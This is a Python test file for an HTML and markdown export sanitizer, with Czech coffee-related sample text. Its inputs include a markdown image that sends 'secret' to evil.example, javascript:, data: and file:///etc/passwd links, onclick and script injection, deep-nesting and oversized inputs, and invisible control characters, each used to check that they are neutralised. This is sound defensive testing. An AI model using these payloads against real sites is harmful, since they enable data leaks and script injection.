from __future__ import annotations

import pytest

from exports.sanitize import article_html, clean_html, inert_markdown, nesting, safe_url, visible


def test_markdown_becomes_headings_lists_links_and_emphasis() -> None:
    html = article_html("## Voda\n\nJe **tvrdá**.\n\n- jedna\n- dvě\n\n[zdroj](https://sca.coffee)")
    assert "<h3>Voda</h3>" in html
    assert "<strong>tvrdá</strong>" in html
    assert "<li>dvě</li>" in html
    assert 'href="https://sca.coffee" rel="noopener noreferrer nofollow ugc"' in html


def test_a_markdown_picture_of_another_host_is_shown_as_its_words() -> None:
    html = article_html("![tajný pixel](https://evil.example/?q=secret)")
    assert "evil" not in html
    assert "tajný pixel" in html


def test_html_inside_markdown_is_shown_as_the_text_it_is() -> None:
    assert article_html("a <b>c</b>") == "<p>a &lt;b&gt;c&lt;/b&gt;</p>\n"


def test_html_is_cut_down_to_the_elements_of_an_article() -> None:
    assert clean_html('<div><p class="x" onclick="y()">a<script>b()</script></p></div>') == "<p>a</p>"


def test_a_link_without_a_scheme_is_led_to_https() -> None:
    assert 'href="https://evil.example/x"' in article_html("[sem](//evil.example/x)")


@pytest.mark.parametrize(
    "target", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "media/x.png"]
)
def test_a_link_to_anything_but_the_web_or_mail_loses_its_target(target: str) -> None:
    assert "href" not in clean_html(f'<p><a href="{target}">x</a></p>')


def test_two_hundred_thousand_nested_elements_are_shown_as_text() -> None:
    html = clean_html("<blockquote>" * 200_000 + "dno")
    assert "<blockquote" not in html


def test_deep_quotes_in_markdown_end_at_the_cap() -> None:
    assert nesting(article_html(">" * 5_000 + " dno")) <= 100


def test_a_megabyte_of_text_is_cut() -> None:
    assert len(article_html("a" * 1_000_000)) < 250_000


@pytest.mark.parametrize(
    "hidden", ["\u202e", "\u200b", "\U000e0041", "\x00", "\x1b", "\ud800", "\ufeff", "\u2066"]
)
def test_characters_that_nobody_can_see_are_taken_out(hidden: str) -> None:
    assert visible(f"a{hidden}b") == "ab"


def test_emoji_that_are_joined_stay_joined() -> None:
    assert visible("👩‍🌾 ☕️") == "👩‍🌾 ☕️"


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "//evil.example", "ftp://x", "https://", "x" * 10, "https:///x"]
)
def test_only_whole_web_addresses_are_linked(url: str) -> None:
    assert safe_url(url) == ""


def test_harmless_markdown_is_exported_as_it_was_written() -> None:
    text = "Voda má **93 °C**, viz [SCA](https://sca.coffee) a 5 < 6."
    assert inert_markdown(text) == text
